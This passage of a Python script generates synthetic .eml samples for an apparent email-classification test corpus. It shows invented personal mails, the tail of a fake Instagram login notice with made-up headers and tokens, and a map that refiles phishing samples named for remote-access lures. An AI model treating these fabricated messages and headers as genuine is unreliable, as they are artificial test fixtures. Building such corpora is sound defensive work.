    frm=("Instagram", "security@mail.instagram.com"), to=("Steven Wright", "steven.wright.pdx@icloud.com"),
    subj="New login to Instagram from Chrome on Windows", date="2025-05-02 21:15:33 -0700",
    ip="69.171.232.143", helo="69-171-232-143.mail-mail.facebook.com", mfrom="security@mail.instagram.com",
    auth=PASS, dkim=("mail.instagram.com", "s1024-meo"),
    body=card_alt(
        "Instagram", "#c13584", "We noticed a new login, steve.wright.pdx",
        ["Chrome on Windows · Portland, OR, United States · May 2 at 9:14 PM (PDT)", "If this was you, you don't need to do "
         "anything. If this wasn't you, secure your account now."],
        ("Secure your account", "https://instagram.com/accounts/disavow/?uidb36=1z4k8p&token=cb7-2f1e9d0a8b7c6d5e4f3a2b1c&nonce=Qx7mK2"),
        "from Meta<br>© Instagram. Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025", style="sfmc"))

# ---- personal and community mail (clean)

add(slug="friend-bbq-signup-sheet", cat="clean", kind="legit",
    desc="Personal Gmail-to-Gmail invitation to a Labor Day BBQ from a friend, with a Google Sheets sign-up link for "
         "dishes; ordinary personal mail.",
    frm=("Mike Donnelly", "mikedonnelly.atx@gmail.com"), to=("Jason Rivera", "jrivera.tx@gmail.com"),
    subj="BBQ at our place Labor Day?", date="2024-08-22 20:41:09 -0500", **gm(42),
    body=gmail_alt("Hey Jason,\n\nWe're doing the usual Labor Day BBQ at our place on Monday the 2nd, starting around 2. Bring "
                   "Maria and the kids, the pool will be open.\n\nI made a sign-up sheet so we don't end up with six bowls of "
                   "potato salad again:\nhttps://docs.google.com/spreadsheets/d/1bV7cQ2Xk9mR4tL0pZ8yN3wH6jE5aD1sF2gU7oI9qW4e/edit?usp=sharing\n\n"
                   "Let me know if you can make it.\n\nMike"))

add(slug="mom-iphone-photos", cat="clean", kind="legit",
    desc="A mother emailing two holiday photos from her iPhone (me.com via iCloud, authenticated) to her daughter's Yahoo "
         "address; Apple Mail structure with JPEG attachments and no links.",
    frm=("Carol Park", "carolpark.49@me.com"), to=("Linda Park", "lindapark_72@yahoo.com"),
    subj="Photos from the lake", date="2024-07-06 18:22:37 -0700",
    ip="17.58.63.178", helo="st43p00im-ztbu10073601.me.com", rdns="st43p00im-ztbu10073601.me.com",
    auth=PASS, dkim=("me.com", "1a1hai"),
    hdrs=["X-Mailer: iPhone Mail (21F90)"],
    body=mixed(plain("Hi honey,\n\nHere are a couple from the lake yesterday. Dad finally caught something! Tell the kids "
                     "grandma says hi.\n\nLove,\nMom\n\nSent from my iPhone\n"),
               attachment("image/jpeg", "IMG_4417.jpeg", files.photo_jpeg(20)),
               attachment("image/jpeg", "IMG_4421.jpeg", files.photo_jpeg(21)), style="apple"))

add(slug="christmas-flights-reply-thread", cat="clean", kind="legit",
    desc="Family reply thread from an Outlook.com mailbox about Christmas flights, with a British Airways booking link "
         "and quoted earlier message; authenticated personal mail.",
    frm=("Chloe Bennett", "chloe_bennett93@hotmail.co.uk"), to=("Emma Clarke", "emmaclarke.leeds@gmail.com"),
    subj="RE: Christmas flights to Edinburgh", date="2024-10-14 21:05:52 +0100", **ms_out(33, "hotmail.co.uk", True),
    hdrs=["In-Reply-To: <CAJx7Kq4mV2p8Wn3rT0bYf5sH9dE1cGz@mail.gmail.com>",
          "References: <CAJx7Kq4mV2p8Wn3rT0bYf5sH9dE1cGz@mail.gmail.com>",
          "Thread-Topic: Christmas flights to Edinburgh", "Content-Language: en-GB"],
    body=outlook_alt(
        "Hiya,\n\nI've found the 23rd one from Heathrow at 10:15 for £68 each with a bag - here's the link, it was on the "
        "BA site: https://www.britishairways.com/travel/fx/public/en_gb?eId=111001&from=LHR&to=EDI&depDate=2024-12-23\n\n"
        "Shall I book for both of us and you pay me back? Mum says she'll pick us up from the airport.\n\nC x\n\n"
        "________________________________\nFrom: Emma Clarke <emmaclarke.leeds@gmail.com>\nSent: 14 October 2024 18:32\n"
        "To: Chloe Bennett <chloe_bennett93@hotmail.co.uk>\nSubject: Christmas flights to Edinburgh\n\nAre we flying up "
        "on the 23rd or 24th this year? Prices are creeping up already."))

add(slug="neighbours-list-groupsio-flyer", cat="clean", kind="legit",
    desc="Neighbourhood association mailing-list post relayed by groups.io (List-Id, list headers, groups.io DKIM and "
         "DMARC pass) about a park clean-up, with a PDF flyer and a Google Form volunteer link.",
    frm=("Linda Evans via groups.io", "lindaevans=gmail.com@groups.io"), to=("main@maplegroveneighbors.groups.io", "main@maplegroveneighbors.groups.io"),
    subj="[MapleGroveNeighbors] Park clean-up Saturday + volunteers needed", date="2025-04-09 19:48:22 -0400",
    ip="66.175.222.108", helo="mail02.groups.io", mfrom="bounce+83155+1207+4481927+9302714@groups.io",
    auth=PASS, dkim=("groups.io", "20240206"), reply_to="main@maplegroveneighbors.groups.io",
    to_hdr="main@maplegroveneighbors.groups.io",
    hdrs=["Sender: main@maplegroveneighbors.groups.io", "List-Id: <maplegroveneighbors.groups.io>",
          "Mailing-List: list main@maplegroveneighbors.groups.io; contact main+owner@maplegroveneighbors.groups.io",
          "List-Post: <mailto:main@maplegroveneighbors.groups.io>", "Precedence: Bulk",
          "List-Unsubscribe: <mailto:main+unsubscribe@maplegroveneighbors.groups.io>",
          "X-Original-From: Linda Evans <lindaevans@gmail.com>"], rcpt="mturner1972@comcast.net",
    body=mixed(gmail_alt(
        "Hi neighbors,\n\nThe spring clean-up at Maple Grove Park is this Saturday, April 12, 9am to noon. The city is "
        "dropping off gloves, bags and grabbers, and Rosa's bakery is donating coffee and donuts.\n\nIf you can help, "
        "please put your name down here so we know how many to expect:\n"
        "https://docs.google.com/forms/d/e/1FAIpQLSf3kR8vN2mQ7xT4pL9cY6wB1dH5jE0sA3gU8oI2zK7nV4mX1q/viewform\n\n"
        "Flyer attached if anyone can print a few for the mailbox board.\n\nThanks!\nLinda Evans\nMaple Grove Neighbors, "
        "secretary\n\n-=-=-=-=-=-=-=-=-=-=-=-\nGroups.io Links: You receive all messages sent to this group.\n"
        "View/Reply Online (#1207): https://maplegroveneighbors.groups.io/g/main/message/1207\n"
        "Leave Group: https://maplegroveneighbors.groups.io/g/main/leave/4481927/9302714/xyz\n-=-=-=-=-=-=-=-=-=-=-=-"),
        attachment("application/pdf", "Park_Cleanup_Flyer_April12.pdf", files.pdf(
            ["MAPLE GROVE PARK SPRING CLEAN-UP", "", "Saturday, April 12 - 9:00 am to noon", "Meet at the picnic shelter",
             "Gloves, bags and coffee provided", "", "Questions? Reply on the Maple Grove Neighbors list."],
            title="Park clean-up flyer")), style="gmail"))


# ----------------------------------------------------------------- main


# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind):
# legitimate notices between clean and bulk, and attacks that only link to a download (no program attached)
# under phishing, the folder for lures; malware/ keeps the messages that carry one.
REFILED = {
    "b20-bulk-bofa-zelle-received": "clean", "b20-bulk-netflix-payment-issue-genuine": "clean",
    "b20-bulk-paypal-payment-receipt": "clean", "b20-bulk-usps-informed-delivery-digest": "clean",
    "b20-bulk-venmo-request-from-friend": "clean", "b20-legit-neighbours-list-groupsio-flyer": "bulk",
    "b20-phish-evite-invitation-rmm-exe": "phishing", "b20-phish-ssa-statement-screenconnect": "phishing",
}


def main() -> None:
    counts: dict[str, int] = {}
    kinds: dict[str, int] = {}
    seen = set()
    lines = []
    for m in MESSAGES:
        assert m["slug"] not in seen, m["slug"]
        seen.add(m["slug"])
        assert (m["kind"] == "phish") == (m["cat"] in ("phishing", "malware")), m["slug"]
        data = build(m)
        check(data, m["slug"])
        name = f"b20-{m['kind']}-{m['slug']}"
        folder = REFILED.get(name, m["cat"])
        path = OUT / folder / f"{name}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        lines.append(f"samples/mail/{folder}/{path.name} | {m['cat']} | {m['desc']}")
        counts[m["cat"]] = counts.get(m["cat"], 0) + 1
        kinds[m["kind"]] = kinds.get(m["kind"], 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n")
    print("per category:", dict(sorted(counts.items())))
    print("per kind:", dict(sorted(kinds.items())), "total", len(MESSAGES))


if __name__ == "__main__":
    main()
